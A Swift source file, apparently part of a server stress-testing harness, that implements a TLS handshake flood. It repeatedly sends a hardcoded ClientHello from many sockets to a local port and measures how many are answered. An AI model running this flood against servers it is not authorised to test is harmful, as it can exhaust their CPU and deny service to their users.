/// Each second many at once begin a handshake of TLS, which costs the server a signature. They go when all of them are answered.
public final class HelloFlood: Attacker {
    /// What `openssl s_client -tls1_3 -groups X25519` has sent. A server answers it as often as it comes.
    private static let hello: [UInt8] = {
        let digits = """
            16030100c0010000bc0303056b19c9177d5004b2da56f8a4ed1c01a1b78c483b6c54a1d35e3c5e2836bec8208e851efcf185b7d5d34f8bdb79a487d4\
            3c7027a4734a40938e18b06983a1f3850004130200ff0100006f0000000e000c0000096c6f63616c686f7374000b000403000102000a00040002001d\
            002300000016000000170000000d0006000404030804002b0003020304002d00020101003300260024001d002098d6d79aeac3b78513db76dad11a06\
            d59bb9a31eae3f704f7c944a1b5fe94446
            """.utf8.map { $0 < 58 ? $0 - 48 : $0 - 87 }
        return stride(from: 0, to: digits.count, by: 2).map { digits[$0] << 4 | digits[$0 + 1] }
    }()

    private struct Caller {
        let socket: HostileSocket
        var hasSaidHello = false
        var isAnswered = false
    }

    private static let interval = Duration.seconds(1)

    private let port: UInt16
    private let count: Int
    private var callers: [Caller] = []
    private var buffer = [UInt8](repeating: 0, count: 65_536)
    private var answers = 0
    private var failures = 0
    /// When the last have come.
    private var came: ContinuousClock.Instant?
    private var greatestTime = Duration.zero
    private var began: ContinuousClock.Instant?
    private var time = Duration.zero

    public init(_ count: Int, at port: UInt16) {
        self.count = count
        self.port = port
    }

    public func step() -> Bool {
        if began == nil { began = .now }
        if came.map({ $0.duration(to: .now) >= Self.interval }) ?? true {
            // Whom a server that discards what it gets has not answered, go, too.
            callers = []
            came = .now
            for _ in 0..<count {
                guard let socket = HostileSocket(to: port) else { failures += 1; continue }
                socket.resetWhenDropped()
                callers.append(Caller(socket: socket))
            }
            return true
        }
        for index in callers.indices where !callers[index].isAnswered {
            let socket = callers[index].socket
            if !callers[index].hasSaidHello {
                callers[index].hasSaidHello = socket.send(Self.hello[...]) != .nothing
            } else {
                callers[index].isAnswered = socket.receive(into: &buffer) != .nothing
            }
        }
        // Those who are answered stay until all are: they count towards the server's limits.
        if !callers.isEmpty, callers.allSatisfy(\.isAnswered), let came {
            answers += callers.count
            greatestTime = max(greatestTime, came.duration(to: .now))
            callers = []
        }
        return false
    }

    public func end() {
        callers = []
        if let began { time = began.duration(to: .now) }
    }

    public var remarks: [String] {
        [
            "\(Int(Double(answers) / max(time / .seconds(1), 0.001))) ClientHellos a second were answered, \(count) at once within "
                + "\(Int(greatestTime / .milliseconds(1))) ms at most"
        ]
            + (failures > 0 ? ["\(failures) calls failed on the caller's side"] : [])
    }
}
